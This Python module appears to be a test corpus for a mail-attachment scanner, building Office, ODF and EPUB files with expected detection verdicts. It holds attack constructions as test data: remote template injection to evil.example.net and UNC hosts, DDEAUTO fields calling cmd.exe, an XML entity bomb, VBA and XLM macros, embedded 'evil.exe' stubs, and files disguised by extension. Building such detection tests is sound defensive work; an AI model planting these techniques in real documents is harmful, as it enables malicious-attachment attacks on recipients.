"""Office documents (rows C04, C07, C17, A17; R10's XML, D20's documents): the zipped ones here, the others beside."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

from tests.corpus import office
from tests.corpus.binary_documents import (
    ACTIVE,
    DOC,
    DOCX,
    ENCRYPTED,
    EXECUTABLE,
    HELD,
    MACRO,
    binary_cases,
    found,
    mail,
)
from tests.corpus.case import Case
from tests.corpus.compound_file import compound_file
from tests.corpus.payloads import STUB

LEFT_OUT: Mapping[str, str] = {}

_XLM = "application/vnd.ms-excel.macrosheet+xml"


def cases() -> Iterator[Case]:
    yield from binary_cases()
    yield from _office_open()
    yield from _zipped()
    yield from _lies()


# --- C17: OOXML -------------------------------------------------------------------------------------------------------


def _office_open() -> Iterator[Case]:
    project = {"word/vbaProject.bin": compound_file(office.VBA)}
    docm = office.docx(project, main=office.MACRO_MAIN)
    yield found("C17", "docm", MACRO, mail(b"a.docm", docm, b"application/vnd.ms-word.document.macroEnabled.12"))
    yield found("C17", "docm-as-docx", MACRO, mail(b"a.docx", docm, DOCX))
    yield found("C17", "docm-as-doc", MACRO, mail(b"a.doc", docm, DOC))
    yield found("C17", "vba-without-its-type", MACRO, mail(b"a.docx", office.docx(project), DOCX))
    renamed = office.docx({"word/theme.dat": compound_file(office.VBA)})
    yield found("C17", "vba-under-another-name", MACRO, mail(b"a.docx", renamed, DOCX))
    sheets = {"[Content_Types].xml": office.content_types("application/xml", _XLM), "xl/other/s.xml": b"<a/>"}
    yield found("C17", "xlm-by-type", MACRO, mail(b"a.xlsx", office.docx(sheets)))
    yield found("C17", "xlm-by-place", MACRO, mail(b"a.xlsx", office.docx({"xl/macrosheets/sheet1.xml": b"<a/>"})))
    for what, target in {
        "http": "http://evil.example.net/t.dotm",
        "https-percent": "https%3A//evil.example.net/t.dotm",
        "unc": r"\\203.0.113.7\t\t.dotm",
        "webdav": r"file:///\\evil.example.net@SSL\t\t.dotm",
        "mhtml": "mhtml:http://evil.example.net/t.html!x",
    }.items():
        template = office.docx(None, ("attachedTemplate", target))
        yield found("C17", f"template-{what}", ACTIVE, mail(b"a.docx", template, DOCX))
    wide = office.relations(("attachedTemplate", "http://evil.example.net/t", "External")).decode().encode("utf-16")
    template = office.docx({"word/_rels/settings.xml.rels": wide})
    yield found("C17", "template-in-utf-16", ACTIVE, mail(b"a.docx", template, DOCX))
    for kind in ("oleObject", "frame", "subDocument"):
        linked = office.docx(None, (kind, "http://evil.example.net/x.html!"))
        yield found("C17", f"external-{kind}", ACTIVE, mail(b"a.docx", linked, DOCX))
    yield from _dde()
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
    bomb = office.docx({"_rels/.rels": laughs})
    yield Case("R10", "entities-in-ooxml", mail(b"a.docx", bomb, DOCX), any_of=HELD)
    harmless = office.docx(
        {"word/media/image1.png": b"\x89PNG\r\n\x1a\n", "word/embeddings/Microsoft_Excel_Sheet.xlsx": office.docx()},
        ("hyperlink", "https://www.example.net/"),
        ("image", "https://www.example.net/a.png"),
        ("attachedTemplate", "file:///C:\\Users\\a\\Templates\\Letter.dotx"),
        ("oleObject", r"file:///\\srv01\share\Book.xlsx"),
        ("externalLinkPath", "https://firm.sharepoint.com/Book.xlsx"),
    )
    yield Case("C17", "harmless-docx", mail(b"a.docx", harmless, DOCX), passes=True, none_of=MACRO)


def _dde() -> Iterator[Case]:
    for what, body in {
        "dde": office.field("DDE cmd.exe"),
        "ddeauto-over-runs": office.field("DD", "EAU", "TO c:\\\\cmd.exe /k"),
        "dde-nested": office.field("IF 1 = 2") + office.field(" ddeauto x y"),
        "dde-simple": '<w:p><w:fldSimple w:instr=" DDEAUTO x y"/></w:p>',
    }.items():
        content = office.docx({"word/document.xml": office.document(body)})
        yield found("C17", what, ACTIVE, mail(b"a.docx", content, DOCX))
    header = office.docx({"word/header1.xml": office.document(office.field("DDEAUTO x y"))})
    yield found("C17", "dde-in-header", ACTIVE, mail(b"a.docx", header, DOCX))
    link = {
        "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>'
    }
    yield found("C17", "dde-in-xlsx", ACTIVE, mail(b"a.xlsx", office.docx(link)))
    text = office.docx({"word/document.xml": office.document("<w:p><w:r><w:t>DDEAUTO x</w:t></w:r></w:p>")})
    yield Case("C17", "harmless-text-about-dde", mail(b"a.docx", text, DOCX), passes=True)


# --- A17, D20 ---------------------------------------------------------------------------------------------------------


def _zipped() -> Iterator[Case]:
    ole = compound_file({"\1CompObj": b"", "\1Ole10Native": office.ole10_native(STUB, b"evil.exe")})
    yield found(
        "A17", "oleObject1.bin", EXECUTABLE, mail(b"a.docx", office.docx({"word/embeddings/oleObject1.bin": ole}))
    )
    direct = office.docx({"word/embeddings/evil.bin": STUB})
    yield found("A17", "embeddings", EXECUTABLE, mail(b"a.docx", direct, DOCX))
    package_ = compound_file({"Package": office.zipped({"evil.exe": STUB})})
    yield found("A17", "package-stream", EXECUTABLE, mail(b"a.docx", office.docx({"word/embeddings/o.bin": package_})))
    odt = {"mimetype": b"application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": b"<manifest/>"}
    yield found("A17", "odf-object", EXECUTABLE, mail(b"a.odt", office.zipped({**odt, "Object 1": ole})))
    basic = office.zipped(
        {**odt, "Basic/Standard/Module1.xml": b"<script:module xmlns:script='x'>Sub a</script:module>"}
    )
    yield found("A17", "odf-basic", MACRO, mail(b"a.odt", basic))
    event = b'<o><s:event-listener xmlns:s="s" xmlns:x="x" x:href="vnd.sun.star.script:a.py$b?language=Python"/></o>'
    yield found("A17", "odf-event", MACRO, mail(b"a.odt", office.zipped({**odt, "content.xml": event})))
    secret = {"META-INF/manifest.xml": b'<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>'}
    yield found("A17", "odf-encrypted", ENCRYPTED, mail(b"a.odt", office.zipped({**odt, **secret})))
    epub = {"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<container/>", "OEBPS/evil.exe": STUB}
    yield found("A17", "epub", EXECUTABLE, mail(b"a.epub", office.zipped(epub)))
    content = office.zipped({**odt, "content.xml": b"<office:document xmlns:office='o'><a/></office:document>"})
    yield Case("A17", "harmless-odt", mail(b"a.odt", content), passes=True, none_of=MACRO)


def _lies() -> Iterator[Case]:
    docm = office.docx({"word/vbaProject.bin": compound_file(office.VBA)}, main=office.MACRO_MAIN)
    yield Case("D20", "docm-as-pdf", mail(b"a.pdf", docm, b"application/pdf"), all_of=MACRO)
    package_ = office.word(streams={"ObjectPool": {"_1": {"\1Ole10Native": office.ole10_native(STUB, b"evil.exe")}}})
    yield found("D20", "doc-as-text", EXECUTABLE, mail(b"a.txt", package_, b"text/plain"))
    yield found("D20", "msg-as-image", EXECUTABLE, mail(b"a.png", compound_file(office.msg_tree(
        office.msg_attachment(STUB))), b"image/png"))  # fmt: skip
